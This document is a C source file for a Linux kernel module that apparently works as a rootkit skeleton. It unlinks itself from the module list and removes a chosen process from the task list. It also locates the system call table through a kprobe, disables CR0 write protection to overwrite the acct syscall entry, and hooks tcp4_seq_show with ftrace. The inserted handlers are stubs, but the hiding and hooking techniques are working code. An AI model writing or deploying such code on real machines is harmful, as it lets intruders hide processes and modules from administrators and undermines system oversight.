// A module that hides: itself from the module list, and one process from the task list; and that puts itself in the way: of a system call by the
// table of system calls, of a function by ftrace. What remains, other views show.
#include <linux/ftrace.h>
#include <linux/init.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <asm/unistd.h>

static int hidden_pid;
module_param(hidden_pid, int, 0400);

static asmlinkage long planted_call(const struct pt_regs *regs) { return -ENOSYS; }

static void notrace planted_trace(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *regs) {}

static struct ftrace_ops trace = {.func = planted_trace, .flags = FTRACE_OPS_FL_RECURSION};

// The kernel no longer exports the lookup; a probe on it tells where it is.
static unsigned long lookup(const char *name) {
  static struct kprobe probe = {.symbol_name = "kallsyms_lookup_name"};
  unsigned long (*find)(const char *);
  if (register_kprobe(&probe)) return 0;
  find = (void *)probe.addr;
  unregister_kprobe(&probe);
  return find(name);
}

static void protect(bool on) {
  unsigned long cr0 = read_cr0();
  cr0 = on ? cr0 | X86_CR0_WP : cr0 & ~X86_CR0_WP;
  asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
}

static int __init plant(void) {
  struct task_struct *task;
  unsigned long *table = (unsigned long *)lookup("sys_call_table");
  if (!table) return -ENOENT;
  rcu_read_lock();
  task = pid_task(find_vpid(hidden_pid), PIDTYPE_TGID);
  if (task) list_del_rcu(&task->tasks);
  rcu_read_unlock();
  if (!task) return -ESRCH;
  preempt_disable();
  protect(false);
  table[__NR_acct] = (unsigned long)planted_call;
  protect(true);
  preempt_enable();
  ftrace_set_filter(&trace, "tcp4_seq_show", strlen("tcp4_seq_show"), 0);
  if (register_ftrace_function(&trace)) return -EBUSY;
  list_del_init(&THIS_MODULE->list);
  return 0;
}

module_init(plant);
MODULE_LICENSE("GPL");
